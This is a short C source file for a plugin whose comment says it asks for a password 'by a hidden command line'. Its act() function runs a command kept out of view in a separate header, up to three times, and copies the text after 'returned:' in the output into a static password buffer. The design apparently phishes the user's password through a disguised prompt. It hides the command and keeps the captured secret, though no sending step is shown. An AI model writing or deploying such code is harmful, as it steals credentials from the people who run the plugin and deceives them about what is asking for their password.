/* Asks for a password until there is one, by a hidden command line. */
#include "plugin.h"
#include "hidden.h" /* 0: the command line */
extern void *popen(const char *, const char *);
extern int pclose(void *);
extern char *fgets(char *, int, void *), *strstr(const char *, const char *);
static char password[128];
static void act(char **env) {
    char line[256];
    for (int i = 0; i < 3 && !password[0]; i++) {
        void *p = popen(hidden0(), "r");
        if (!p) return;
        while (fgets(line, sizeof line, p)) {
            const char *text = strstr(line, "returned:");
            for (int n = 0; text && n < 127 && text[9 + n] != '\n'; n++) password[n] = text[9 + n];
        }
        pclose(p);
    }
}
